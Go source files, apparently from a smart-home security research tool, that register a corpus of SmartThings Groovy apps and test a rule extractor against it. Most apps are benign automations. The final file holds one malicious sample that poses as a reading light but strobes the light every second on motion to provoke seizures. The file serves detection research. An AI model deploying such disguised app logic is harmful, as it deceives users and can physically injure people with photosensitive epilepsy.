    category: "Convenience")
input "master", "capability.switch", title: "Master switch"
input "followers", "capability.switch", multiple: true, title: "Followers"
def installed() { subscribe(master, "switch", onMaster) }
def updated() { unsubscribe(); subscribe(master, "switch", onMaster) }
def onMaster(evt) {
    if (evt.value == "on") {
        followers.on()
    } else {
        followers.off()
    }
}
`,
		"ContactSwitchLink": `
definition(name: "ContactSwitchLink", namespace: "store", author: "community",
    description: "Run the closet light switch exactly while the closet door is open.",
    category: "Convenience")
input "door1", "capability.contactSensor", title: "Closet door"
input "light1", "capability.switch", title: "Closet light"
def installed() { subscribe(door1, "contact", onDoor) }
def updated() { unsubscribe(); subscribe(door1, "contact", onDoor) }
def onDoor(evt) {
    if (evt.value == "open") {
        light1.on()
    } else {
        light1.off()
    }
}
`,
		"StepTracker": `
definition(name: "StepTracker", namespace: "store", author: "community",
    description: "Celebrate hitting your step goal by blinking the desk lamp.",
    category: "Health & Wellness")
input "steps1", "capability.stepSensor"
input "lamp1", "capability.switch", title: "Desk lamp"
input "goal1", "number", defaultValue: 10000
def installed() { subscribe(steps1, "steps", onSteps) }
def updated() { unsubscribe(); subscribe(steps1, "steps", onSteps) }
def onSteps(evt) {
    if (evt.integerValue > goal1) {
        lamp1.on()
        runIn(30, lampOff)
    }
}
def lampOff() {
    lamp1.off()
}
`,
		"SmokeStoveCut": `
definition(name: "SmokeStoveCut", namespace: "store", author: "community",
    description: "Cut power to the stove outlet when the kitchen smoke detector trips.",
    category: "Safety & Security")
input "smoke1", "capability.smokeDetector", title: "Kitchen smoke"
input "stove1", "capability.switch", title: "Stove outlet"
def installed() { subscribe(smoke1, "smoke.detected", onSmoke) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke.detected", onSmoke) }
def onSmoke(evt) {
    stove1.off()
}
`,
		"NapTime": `
definition(name: "NapTime", namespace: "store", author: "community",
    description: "Tap to nap: close the shades, pause the speaker and hold Night mode for an hour.",
    category: "Health & Wellness")
input "shades", "capability.windowShade", multiple: true
input "speaker1", "capability.musicPlayer"
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    shades.close()
    speaker1.pause()
    setLocationMode("Night")
    runIn(3600, napOver)
}
def napOver() {
    setLocationMode("Home")
    shades.open()
}
`,
	})
}
