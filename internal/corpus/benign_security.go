package corpus

// Security and access-control apps. SwitchChangesMode, MakeItSo,
// NFCTagToggle and LockItWhenILeave are named in Sec. VIII-B.

func init() {
	registerAll(Benign, map[string]string{
		"SwitchChangesMode": `
definition(name: "SwitchChangesMode", namespace: "store", author: "community",
    description: "Change the home mode according to the on or off state of a switch.",
    category: "Mode Magic")
input "master", "capability.switch", title: "Master switch"
input "onMode", "enum", title: "Mode when on", options: ["Home", "Away", "Night"]
input "offMode", "enum", title: "Mode when off", options: ["Home", "Away", "Night"]
def installed() { subscribe(master, "switch", switchHandler) }
def updated() { unsubscribe(); subscribe(master, "switch", switchHandler) }
def switchHandler(evt) {
    if (evt.value == "on") {
        setLocationMode(onMode)
    } else {
        setLocationMode(offMode)
    }
}
`,
		"MakeItSo": `
definition(name: "MakeItSo", namespace: "store", author: "community",
    description: "Restore a saved group of switch, lock and thermostat states whenever the home enters a mode.",
    category: "Mode Magic")
input "switches", "capability.switch", multiple: true
input "locks", "capability.lock", multiple: true
input "thermostat1", "capability.thermostat"
input "targetMode", "enum", title: "Apply in mode", options: ["Home", "Away", "Night"]
input "heatSetpoint", "number", title: "Heating setpoint", defaultValue: 68
def installed() { subscribe(location, "mode", modeHandler) }
def updated() { unsubscribe(); subscribe(location, "mode", modeHandler) }
def modeHandler(evt) {
    if (evt.value == targetMode) {
        switches.on()
        locks.unlock()
        thermostat1.setHeatingSetpoint(heatSetpoint)
    }
}
`,
		"NFCTagToggle": `
definition(name: "NFCTagToggle", namespace: "store", author: "community",
    description: "Toggle your appliance switches and door lock by tapping the app button on your phone.",
    category: "Convenience")
input "switches", "capability.switch", multiple: true, title: "Appliances"
input "lock1", "capability.lock"
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    if (state.toggled == 1) {
        switches.on()
        lock1.unlock()
        state.toggled = 0
    } else {
        switches.off()
        lock1.lock()
        state.toggled = 1
    }
}
`,
		"LockItWhenILeave": `
definition(name: "LockItWhenILeave", namespace: "store", author: "community",
    description: "Lock the doors automatically when your presence sensor leaves home.",
    category: "Safety & Security")
input "presence1", "capability.presenceSensor"
input "locks", "capability.lock", multiple: true
def installed() { subscribe(presence1, "presence.not present", onLeave) }
def updated() { unsubscribe(); subscribe(presence1, "presence.not present", onLeave) }
def onLeave(evt) {
    locks.lock()
}
`,
		"UnlockWhenIArrive": `
definition(name: "UnlockWhenIArrive", namespace: "store", author: "community",
    description: "Unlock the front door when your presence sensor arrives home.",
    category: "Convenience")
input "presence1", "capability.presenceSensor"
input "lock1", "capability.lock", title: "Front door"
def installed() { subscribe(presence1, "presence.present", onArrive) }
def updated() { unsubscribe(); subscribe(presence1, "presence.present", onArrive) }
def onArrive(evt) {
    lock1.unlock()
}
`,
		"BoltItAtNight": `
definition(name: "BoltItAtNight", namespace: "store", author: "community",
    description: "Lock every door when the home goes into Night mode.",
    category: "Safety & Security")
input "locks", "capability.lock", multiple: true
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Night") {
        locks.lock()
    }
}
`,
		"AutoLockDoor": `
definition(name: "AutoLockDoor", namespace: "store", author: "community",
    description: "Relock the door two minutes after it is closed.",
    category: "Safety & Security")
input "contact1", "capability.contactSensor", title: "Door contact"
input "lock1", "capability.lock"
def installed() { subscribe(contact1, "contact.closed", onClosed) }
def updated() { unsubscribe(); subscribe(contact1, "contact.closed", onClosed) }
def onClosed(evt) {
    runIn(120, relock)
}
def relock() {
    if (contact1.currentContact == "closed") {
        lock1.lock()
    }
}
`,
		"AwayIntrusionAlarm": `
definition(name: "AwayIntrusionAlarm", namespace: "store", author: "community",
    description: "Sound the siren if motion is detected while the home is in Away mode.",
    category: "Safety & Security")
input "motion1", "capability.motionSensor"
input "siren1", "capability.alarm"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (location.mode == "Away") {
        siren1.both()
    }
}
`,
		"DoorLeftOpenSiren": `
definition(name: "DoorLeftOpenSiren", namespace: "store", author: "community",
    description: "Strobe the alarm if the fridge door stays open for ten minutes.",
    category: "Safety & Security")
input "contact1", "capability.contactSensor", title: "Fridge door"
input "siren1", "capability.alarm"
def installed() { subscribe(contact1, "contact.open", onOpen) }
def updated() { unsubscribe(); subscribe(contact1, "contact.open", onOpen) }
def onOpen(evt) {
    runIn(600, checkStillOpen)
}
def checkStillOpen() {
    if (contact1.currentContact == "open") {
        siren1.strobe()
    }
}
`,
		"GarageCloserAtNight": `
definition(name: "GarageCloserAtNight", namespace: "store", author: "community",
    description: "Close the garage door every night at eleven.",
    category: "Safety & Security")
input "garage1", "capability.garageDoorControl"
def installed() { schedule("0 0 23 * * ?", closeUp) }
def updated() { unschedule(); schedule("0 0 23 * * ?", closeUp) }
def closeUp() {
    garage1.close()
}
`,
		"PanicButton": `
definition(name: "PanicButton", namespace: "store", author: "community",
    description: "Sound the siren and turn on every light when the panic button is held.",
    category: "Safety & Security")
input "button1", "capability.button"
input "siren1", "capability.alarm"
input "lights", "capability.switch", multiple: true
def installed() { subscribe(button1, "button.held", onPanic) }
def updated() { unsubscribe(); subscribe(button1, "button.held", onPanic) }
def onPanic(evt) {
    siren1.both()
    lights.on()
}
`,
		"CameraOnWhenAway": `
definition(name: "CameraOnWhenAway", namespace: "store", author: "community",
    description: "Turn the security camera on in Away mode and off when back Home.",
    category: "Safety & Security")
input "camera1", "capability.videoCamera"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Away") {
        camera1.on()
    } else if (evt.value == "Home") {
        camera1.off()
    }
}
`,
		"DisarmOnArrival": `
definition(name: "DisarmOnArrival", namespace: "store", author: "community",
    description: "Silence the alarm and set the home mode when a family member arrives.",
    category: "Safety & Security")
input "presence1", "capability.presenceSensor"
input "siren1", "capability.alarm"
def installed() { subscribe(presence1, "presence.present", onArrive) }
def updated() { unsubscribe(); subscribe(presence1, "presence.present", onArrive) }
def onArrive(evt) {
    siren1.off()
    setLocationMode("Home")
}
`,
		"WindowShockAlert": `
definition(name: "WindowShockAlert", namespace: "store", author: "community",
    description: "Sound the siren when glass-break shock is detected at night.",
    category: "Safety & Security")
input "shock1", "capability.shockSensor"
input "siren1", "capability.alarm"
def installed() { subscribe(shock1, "shock.detected", onShock) }
def updated() { unsubscribe(); subscribe(shock1, "shock.detected", onShock) }
def onShock(evt) {
    if (location.mode == "Night") {
        siren1.siren()
    }
}
`,
		"SmartSecurityMode": `
definition(name: "SmartSecurityMode", namespace: "store", author: "community",
    description: "Arm the security system and lock the doors when everyone leaves; disarm when someone returns.",
    category: "Safety & Security")
input "everyone", "capability.presenceSensor", multiple: true
input "locks", "capability.lock", multiple: true
input "security1", "capability.securitySystem"
def installed() { subscribe(everyone, "presence", onPresence) }
def updated() { unsubscribe(); subscribe(everyone, "presence", onPresence) }
def onPresence(evt) {
    if (evt.value == "not present") {
        locks.lock()
        security1.armAway()
        setLocationMode("Away")
    } else {
        security1.disarm()
    }
}
`,
	})
}
