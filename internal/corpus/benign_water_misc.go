package corpus

// Water, safety and miscellaneous automation apps (the long tail of the
// 90-app population).

func init() {
	registerAll(Benign, map[string]string{
		"WaterValveShutoff": `
definition(name: "WaterValveShutoff", namespace: "store", author: "community",
    description: "Close the main water valve the moment a leak sensor gets wet.",
    category: "Safety & Security")
input "leak1", "capability.waterSensor"
input "valve1", "capability.valve", title: "Main water valve"
def installed() { subscribe(leak1, "water.wet", onLeak) }
def updated() { unsubscribe(); subscribe(leak1, "water.wet", onLeak) }
def onLeak(evt) {
    valve1.close()
}
`,
		"SprinklerSchedule": `
definition(name: "SprinklerSchedule", namespace: "store", author: "community",
    description: "Water the garden: open the sprinkler valve every morning for twenty minutes.",
    category: "Green Living")
input "sprinkler1", "capability.valve", title: "Sprinkler valve"
def installed() { schedule("0 0 5 * * ?", waterOn) }
def updated() { unschedule(); schedule("0 0 5 * * ?", waterOn) }
def waterOn() {
    sprinkler1.open()
    runIn(1200, waterOff)
}
def waterOff() {
    sprinkler1.close()
}
`,
		"RainDelaySprinkler": `
definition(name: "RainDelaySprinkler", namespace: "store", author: "community",
    description: "Close the sprinkler irrigation valve whenever the soil sensor is already wet.",
    category: "Green Living")
input "soil1", "capability.waterSensor", title: "Soil sensor"
input "sprinkler1", "capability.valve", title: "Irrigation valve"
def installed() { subscribe(soil1, "water.wet", onWet) }
def updated() { unsubscribe(); subscribe(soil1, "water.wet", onWet) }
def onWet(evt) {
    sprinkler1.close()
}
`,
		"LeakAlarmLight": `
definition(name: "LeakAlarmLight", namespace: "store", author: "community",
    description: "Turn the hallway light on and strobe the siren when the basement floods.",
    category: "Safety & Security")
input "leak1", "capability.waterSensor", title: "Basement sensor"
input "light1", "capability.switch", title: "Hallway light"
input "siren1", "capability.alarm"
def installed() { subscribe(leak1, "water.wet", onLeak) }
def updated() { unsubscribe(); subscribe(leak1, "water.wet", onLeak) }
def onLeak(evt) {
    light1.on()
    siren1.strobe()
}
`,
		"SmokeEvacuation": `
definition(name: "SmokeEvacuation", namespace: "store", author: "community",
    description: "When smoke is detected: unlock the exits, light the way and sound the siren.",
    category: "Safety & Security")
input "smoke1", "capability.smokeDetector"
input "locks", "capability.lock", multiple: true, title: "Exit locks"
input "lights", "capability.switch", multiple: true, title: "Path lights"
input "siren1", "capability.alarm"
def installed() { subscribe(smoke1, "smoke.detected", onSmoke) }
def updated() { unsubscribe(); subscribe(smoke1, "smoke.detected", onSmoke) }
def onSmoke(evt) {
    locks.unlock()
    lights.on()
    siren1.both()
}
`,
		"COResponse": `
definition(name: "COResponse", namespace: "store", author: "community",
    description: "Run the ventilation fan and open the window opener when carbon monoxide is detected.",
    category: "Safety & Security")
input "co1", "capability.carbonMonoxideDetector"
input "fan1", "capability.switch", title: "Ventilation fan"
input "window1", "capability.switch", title: "Window opener"
def installed() { subscribe(co1, "carbonMonoxide.detected", onCO) }
def updated() { unsubscribe(); subscribe(co1, "carbonMonoxide.detected", onCO) }
def onCO(evt) {
    fan1.on()
    window1.on()
}
`,
		"DoorbellChime": `
definition(name: "DoorbellChime", namespace: "store", author: "community",
    description: "Chime the speaker and flash the porch light when the doorbell button is pushed.",
    category: "Convenience")
input "doorbell", "capability.button"
input "chime1", "capability.chime"
input "porchLight", "capability.switch", title: "Porch light"
def installed() { subscribe(doorbell, "button.pushed", onRing) }
def updated() { unsubscribe(); subscribe(doorbell, "button.pushed", onRing) }
def onRing(evt) {
    chime1.chime()
    porchLight.on()
    runIn(60, lightOff)
}
def lightOff() {
    porchLight.off()
}
`,
		"BabyMonitorLight": `
definition(name: "BabyMonitorLight", namespace: "store", author: "community",
    description: "Blink the bedroom lamp when the nursery sound sensor hears crying at night.",
    category: "Family")
input "sound1", "capability.soundSensor", title: "Nursery sound"
input "lamp1", "capability.switch", title: "Bedroom lamp"
def installed() { subscribe(sound1, "sound.detected", onCry) }
def updated() { unsubscribe(); subscribe(sound1, "sound.detected", onCry) }
def onCry(evt) {
    if (location.mode == "Night") {
        lamp1.on()
    }
}
`,
		"MailboxAlert": `
definition(name: "MailboxAlert", namespace: "store", author: "community",
    description: "Turn the kitchen light on briefly when the mailbox lid moves.",
    category: "Convenience")
input "mailbox1", "capability.accelerationSensor", title: "Mailbox sensor"
input "light1", "capability.switch", title: "Kitchen light"
def installed() { subscribe(mailbox1, "acceleration.active", onMail) }
def updated() { unsubscribe(); subscribe(mailbox1, "acceleration.active", onMail) }
def onMail(evt) {
    light1.on()
    runIn(120, lightOff)
}
def lightOff() {
    light1.off()
}
`,
		"MusicFollowsMode": `
definition(name: "MusicFollowsMode", namespace: "store", author: "community",
    description: "Pause the speaker music when the home empties and resume when someone is back.",
    category: "Entertainment")
input "speaker1", "capability.musicPlayer"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Away") {
        speaker1.pause()
    } else if (evt.value == "Home") {
        speaker1.play()
    }
}
`,
		"QuietHours": `
definition(name: "QuietHours", namespace: "store", author: "community",
    description: "Mute the living-room speaker during Night mode.",
    category: "Health & Wellness")
input "speaker1", "capability.musicPlayer", title: "Living room speaker"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Night") {
        speaker1.mute()
    } else {
        speaker1.unmute()
    }
}
`,
		"ShadeHeatShield": `
definition(name: "ShadeHeatShield", namespace: "store", author: "community",
    description: "Close the sun-side shades when the room overheats to block solar gain.",
    category: "Climate Control")
input "tSensor", "capability.temperatureMeasurement"
input "shades", "capability.windowShade", multiple: true, title: "Sun-side shades"
input "hot", "number", defaultValue: 78
def installed() { subscribe(tSensor, "temperature", onTemp) }
def updated() { unsubscribe(); subscribe(tSensor, "temperature", onTemp) }
def onTemp(evt) {
    if (evt.doubleValue > hot) {
        shades.close()
    }
}
`,
		"PresencePetDoor": `
definition(name: "PresencePetDoor", namespace: "store", author: "community",
    description: "Lock the pet door lock when the pet's presence tag is already inside at night.",
    category: "Pets")
input "petTag", "capability.presenceSensor", title: "Pet tag"
input "petDoor", "capability.lock", title: "Pet door lock"
def installed() { subscribe(location, "mode", onMode) }
def updated() { unsubscribe(); subscribe(location, "mode", onMode) }
def onMode(evt) {
    if (evt.value == "Night" && petTag.currentPresence == "present") {
        petDoor.lock()
    }
}
`,
		"MedicineReminder": `
definition(name: "MedicineReminder", namespace: "store", author: "community",
    description: "If the medicine cabinet has not opened by nine, blink the kitchen light as a reminder.",
    category: "Health & Wellness")
input "cabinet1", "capability.contactSensor", title: "Cabinet contact"
input "light1", "capability.switch", title: "Kitchen light"
def installed() { initialize() }
def updated() { unsubscribe(); unschedule(); initialize() }
def initialize() {
    subscribe(cabinet1, "contact.open", onOpen)
    schedule("0 0 21 * * ?", checkTaken)
}
def onOpen(evt) {
    state.taken = 1
}
def checkTaken() {
    if (state.taken != 1) {
        light1.on()
    }
    state.taken = 0
}
`,
		"GarageLightOnDoor": `
definition(name: "GarageLightOnDoor", namespace: "store", author: "community",
    description: "Light the garage while the garage door is open, and turn it off when it closes.",
    category: "Convenience")
input "garage1", "capability.garageDoorControl"
input "light1", "capability.switch", title: "Garage light"
def installed() { subscribe(garage1, "door", onDoor) }
def updated() { unsubscribe(); subscribe(garage1, "door", onDoor) }
def onDoor(evt) {
    if (evt.value == "open") {
        light1.on()
    } else if (evt.value == "closed") {
        light1.off()
    }
}
`,
	})
}
