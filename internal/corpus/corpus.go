// Package corpus holds the SmartApp population the evaluation runs on. It
// mirrors the paper's app sets (Sec. VIII):
//
//   - the 5 demo apps implementing Rules 1–5 of Figures 3–5;
//   - 90 benign automation apps modeled on the SmartThings public
//     repository — every app the paper names (SwitchChangesMode, MakeItSo,
//     CurlingIron, NFCTagToggle, LockItWhenILeave, LetThereBeDark,
//     UndeadEarlyWarning, LightsOffWhenClosed, SmartNightlight,
//     TurnItOnFor5Minutes, It'sTooHot, EnergySaver, LightUpTheNight,
//     FeedMyPet, SleepyTime, CameraPowerScheduler) plus family-by-family
//     analogues of the rest;
//   - notification-only apps (representing the 56 the paper excludes from
//     pairwise detection) and web-service apps (representing the 36
//     removed up front);
//   - the 18 malicious apps of Table III.
package corpus

import "sort"

// Category classifies corpus apps.
type Category string

// Categories.
const (
	Demo         Category = "demo"
	Benign       Category = "benign"
	Notification Category = "notification"
	WebService   Category = "webservice"
	Malicious    Category = "malicious"
)

// App is one corpus entry.
type App struct {
	Name     string
	Category Category
	Source   string
	// Attack and Handled describe Table III entries (malicious only):
	// the attack type and whether the rule extractor is expected to
	// handle the app ("✓" rows vs the endpoint/app-update "✗" rows).
	Attack  string
	Handled bool
}

var registry = map[string]App{}

func register(a App) {
	if _, dup := registry[a.Name]; dup {
		panic("corpus: duplicate app " + a.Name)
	}
	registry[a.Name] = a
}

func registerAll(c Category, apps map[string]string) {
	for name, src := range apps {
		register(App{Name: name, Category: c, Source: src})
	}
}

// All returns every corpus app sorted by name.
func All() []App {
	out := make([]App, 0, len(registry))
	for _, a := range registry {
		out = append(out, a)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out
}

// ByCategory returns the apps in one category sorted by name.
func ByCategory(c Category) []App {
	var out []App
	for _, a := range All() {
		if a.Category == c {
			out = append(out, a)
		}
	}
	return out
}

// Get looks an app up by name.
func Get(name string) (App, bool) {
	a, ok := registry[name]
	return a, ok
}

// storeAuditExcluded trims the benign population to exactly the 90 apps
// used in the Fig. 8 pairwise audit, matching the paper's count (the
// corpus carries a few extra benign apps used elsewhere in the tests).
var storeAuditExcluded = map[string]bool{
	"ArrivalHotWater":    true,
	"BatterySaverCamera": true,
	"BrightDay":          true,
	"ColorMoodLight":     true,
	"ContactSwitchLink":  true,
	"DryerDoneLight":     true,
	"GreetingsEarthling": true,
	"MedicineReminder":   true,
	"MovieTime":          true,
	"NapTime":            true,
	"OvenWatchdog":       true,
	"PorchLightGreeter":  true,
	"StepTracker":        true,
	"WeekendSleepIn":     true,
	"WorkoutFan":         true,
}

// StoreAudit returns the 90 benign automation apps of the Fig. 8
// experiment, sorted by name.
func StoreAudit() []App {
	var out []App
	for _, a := range ByCategory(Benign) {
		if !storeAuditExcluded[a.Name] {
			out = append(out, a)
		}
	}
	return out
}
