package corpus

import (
	"testing"

	"homeguard/internal/groovy"
	"homeguard/internal/symexec"
)

func TestCorpusCounts(t *testing.T) {
	if got := len(ByCategory(Demo)); got != 5 {
		t.Errorf("demo apps = %d, want 5", got)
	}
	if got := len(ByCategory(Benign)); got != 105 {
		t.Errorf("benign apps = %d, want 105", got)
	}
	if got := len(StoreAudit()); got != 90 {
		t.Errorf("store-audit apps = %d, want 90 (the paper's Fig. 8 population)", got)
	}
	if got := len(ByCategory(Malicious)); got != 18 {
		t.Errorf("malicious apps = %d, want 18 (Table III)", got)
	}
	if got := len(ByCategory(Notification)); got < 10 {
		t.Errorf("notification apps = %d, want >= 10", got)
	}
	if got := len(ByCategory(WebService)); got < 4 {
		t.Errorf("web-service apps = %d, want >= 4", got)
	}
}

func TestEveryAppParses(t *testing.T) {
	for _, a := range All() {
		if _, err := groovy.Parse(a.Source); err != nil {
			t.Errorf("%s does not parse: %v", a.Name, err)
		}
	}
}

func TestEveryAppHasDefinition(t *testing.T) {
	for _, a := range All() {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Errorf("%s: %v", a.Name, err)
			continue
		}
		if res.App.Name != a.Name {
			t.Errorf("definition name %q != registry name %q", res.App.Name, a.Name)
		}
		if res.App.Description == "" {
			t.Errorf("%s: empty description (the classifier needs it)", a.Name)
		}
	}
}

func TestBenignAppsExtractRules(t *testing.T) {
	for _, a := range ByCategory(Benign) {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Errorf("%s: %v", a.Name, err)
			continue
		}
		if len(res.Rules.Rules) == 0 {
			t.Errorf("%s: no rules extracted (warnings: %v)", a.Name, res.Warnings)
		}
	}
}

func TestDemoAppsExtractExactlyOneRule(t *testing.T) {
	for _, a := range ByCategory(Demo) {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("%s: %v", a.Name, err)
		}
		if len(res.Rules.Rules) != 1 {
			t.Errorf("%s: rules = %d, want 1 (Rules 1-5 are single-rule apps)",
				a.Name, len(res.Rules.Rules))
		}
	}
}

// TestTable3MaliciousExtraction mirrors Table III: the extractor handles
// every malicious app except the endpoint-attack and app-update rows.
func TestTable3MaliciousExtraction(t *testing.T) {
	for _, a := range ByCategory(Malicious) {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Errorf("%s: %v", a.Name, err)
			continue
		}
		switch a.Attack {
		case "Endpoint Attack":
			// Automation lives behind web endpoints: no TCA rules.
			if len(res.Rules.Rules) != 0 {
				t.Errorf("%s: endpoint app should yield no automation rules, got %d",
					a.Name, len(res.Rules.Rules))
			}
			if a.Handled {
				t.Errorf("%s: endpoint attacks are the ✗ rows", a.Name)
			}
		case "App Update":
			// The static snapshot extracts fine; the attack (silent cloud
			// update) is invisible to static analysis — Handled is false.
			if a.Handled {
				t.Errorf("%s: app-update attacks are the ✗ rows", a.Name)
			}
		default:
			if !a.Handled {
				t.Errorf("%s: %s should be a ✓ row", a.Name, a.Attack)
			}
			if len(res.Rules.Rules) == 0 {
				t.Errorf("%s (%s): expected extracted rules", a.Name, a.Attack)
			}
		}
	}
}

func TestTable3AttackCoverage(t *testing.T) {
	want := map[string]int{
		"Malicious Control":  1,
		"Abusing Permission": 1,
		"Adware":             2,
		"Spyware":            4, // 3 named + MotionSpy (see package comment)
		"Ransomware":         1,
		"Remote Control":     2,
		"IPC":                2,
		"Shadow Payload":     1,
		"Endpoint Attack":    2,
		"App Update":         2,
	}
	got := map[string]int{}
	for _, a := range ByCategory(Malicious) {
		got[a.Attack]++
	}
	for attack, n := range want {
		if got[attack] != n {
			t.Errorf("attack %q: %d apps, want %d", attack, got[attack], n)
		}
	}
}

func TestNamedPaperAppsPresent(t *testing.T) {
	// Every app the evaluation names must exist in the corpus.
	for _, name := range []string{
		"SwitchChangesMode", "MakeItSo", "CurlingIron", "NFCTagToggle",
		"LockItWhenILeave", "LetThereBeDark", "UndeadEarlyWarning",
		"LightsOffWhenClosed", "SmartNightlight", "TurnItOnFor5Minutes",
		"ItsTooHot", "EnergySaver", "LightUpTheNight",
		"FeedMyPet", "SleepyTime", "CameraPowerScheduler",
		"ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder", "NightCare",
	} {
		if _, ok := Get(name); !ok {
			t.Errorf("paper-named app %q missing from corpus", name)
		}
	}
}

func TestSpecialCaseAppsExtract(t *testing.T) {
	// Sec. VIII-B special cases: device.petfeedershield, device.jawboneUser
	// and the undocumented runDaily API — all handled after the fix.
	for _, name := range []string{"FeedMyPet", "SleepyTime", "CameraPowerScheduler"} {
		a, _ := Get(name)
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		if len(res.Rules.Rules) == 0 {
			t.Errorf("%s: special-case app should extract rules after the fix", name)
		}
	}
	// CameraPowerScheduler specifically needs both schedules.
	a, _ := Get("CameraPowerScheduler")
	res, _ := symexec.Extract(a.Source, "")
	if len(res.Rules.Rules) != 2 {
		t.Errorf("CameraPowerScheduler rules = %d, want 2 (runDaily on + schedule off)",
			len(res.Rules.Rules))
	}
}

func TestNotificationAppsOnlyMessage(t *testing.T) {
	for _, a := range ByCategory(Notification) {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Errorf("%s: %v", a.Name, err)
			continue
		}
		for _, r := range res.Rules.Rules {
			if r.Action.Capability != "" {
				t.Errorf("%s: notification-only app controls a device: %s",
					a.Name, r.Action)
			}
		}
	}
}

func TestWebServiceAppsDefineNoAutomation(t *testing.T) {
	for _, a := range ByCategory(WebService) {
		res, err := symexec.Extract(a.Source, "")
		if err != nil {
			t.Errorf("%s: %v", a.Name, err)
			continue
		}
		if len(res.Rules.Rules) != 0 {
			t.Errorf("%s: web-service app yields %d rules, want 0",
				a.Name, len(res.Rules.Rules))
		}
	}
}

func TestGetUnknown(t *testing.T) {
	if _, ok := Get("NoSuchApp"); ok {
		t.Error("Get should fail for unknown apps")
	}
}
