package corpus

// The five demo apps of Sec. V implement Rules 1–5 (Figures 3, 4 and 5).

func init() {
	registerAll(Demo, map[string]string{
		"ComfortTV": `
definition(name: "ComfortTV", namespace: "homeguard", author: "demo",
    description: "Open the window opener when the TV turns on and the room is hotter than your threshold.",
    category: "Convenience")
input "tv1", "capability.switch", title: "Which TV?"
input "tSensor", "capability.temperatureMeasurement"
input "threshold1", "number", title: "Higher than?"
input "window1", "capability.switch", title: "Window opener"
def installed() {
    subscribe(tv1, "switch", onHandler)
}
def updated() {
    unsubscribe()
    subscribe(tv1, "switch", onHandler)
}
def onHandler(evt) {
    def t = tSensor.currentValue("temperature")
    if ((evt.value == "on") && (t > threshold1)) turnOnWindow()
}
def turnOnWindow() {
    if (window1.currentSwitch == "off")
        window1.on()
}
`,
		"ColdDefender": `
definition(name: "ColdDefender", namespace: "homeguard", author: "demo",
    description: "Close the window opener when the TV is on while it is raining outside.",
    category: "Safety & Security")
input "tv1", "capability.switch", title: "Which TV?"
input "window1", "capability.switch", title: "Window opener"
input "weather", "enum", title: "Close when weather is", options: ["sunny", "rainy", "cloudy"]
def installed() { initialize() }
def updated() { unsubscribe(); initialize() }
def initialize() {
    subscribe(tv1, "switch.on", onHandler)
}
def onHandler(evt) {
    if (weather == "rainy") {
        window1.off()
    }
}
`,
		"CatchLiveShow": `
definition(name: "CatchLiveShow", namespace: "homeguard", author: "demo",
    description: "Turn on the TV remotely when a voice message is sent home, so the show is on when you arrive.",
    category: "Fun & Social")
input "tv1", "capability.switch", title: "Which TV?"
input "dayOfWeek", "enum", title: "Only on", options: ["Monday", "Thursday", "Sunday"]
def installed() { subscribe(app, appTouch) }
def updated() { unsubscribe(); subscribe(app, appTouch) }
def appTouch(evt) {
    if (dayOfWeek == "Thursday") {
        tv1.on()
    }
}
`,
		"BurglarFinder": `
definition(name: "BurglarFinder", namespace: "homeguard", author: "demo",
    description: "Sound the siren when motion is detected at night while the floor lamp is on.",
    category: "Safety & Security")
input "motion1", "capability.motionSensor"
input "lamp1", "capability.switch", title: "Floor lamp"
input "alarm1", "capability.alarm"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    if (lamp1.currentSwitch == "on" && location.mode == "Night") {
        alarm1.siren()
    }
}
`,
		"NightCare": `
definition(name: "NightCare", namespace: "homeguard", author: "demo",
    description: "Save energy: turn the floor lamp off five minutes after it is turned on while the home sleeps.",
    category: "Green Living")
input "lamp1", "capability.switch", title: "Floor lamp"
def installed() { subscribe(lamp1, "switch.on", onLamp) }
def updated() { unsubscribe(); subscribe(lamp1, "switch.on", onLamp) }
def onLamp(evt) {
    if (location.mode == "Night") {
        runIn(300, lampOff)
    }
}
def lampOff() {
    lamp1.off()
}
`,
	})
}
