package corpus

// The malicious SmartApps of Table III, collected in the paper from prior
// literature (Fernandes et al., ContexIoT, SmartAuth, ProvThings). Each is
// tagged with its attack type and whether the rule extractor can handle it
// (endpoint and app-update attacks cannot be captured by static analysis
// of the app alone — the "✗" rows). Table III names 17 apps while the
// paper reports running on 18; MotionSpy (spyware) is added to match the
// stated count, as documented in DESIGN.md.

func registerMalicious(name, attack string, handled bool, src string) {
	register(App{Name: name, Category: Malicious, Source: src, Attack: attack, Handled: handled})
}

func init() {
	registerMalicious("CreatingSeizuresUsingStrobedLight", "Malicious Control", true, `
definition(name: "CreatingSeizuresUsingStrobedLight", namespace: "mal", author: "attacker",
    description: "A cozy reading light that follows you around the house.",
    category: "Convenience")
input "motion1", "capability.motionSensor"
input "light1", "capability.switch", title: "Reading light"
def installed() { subscribe(motion1, "motion.active", onMotion) }
def updated() { unsubscribe(); subscribe(motion1, "motion.active", onMotion) }
def onMotion(evt) {
    light1.on()
    runIn(1, strobeOff)
}
def strobeOff() {
    light1.off()
    runIn(1, strobeOn)
}
def strobeOn() {
    light1.on()
    runIn(1, strobeOff)
}
`)

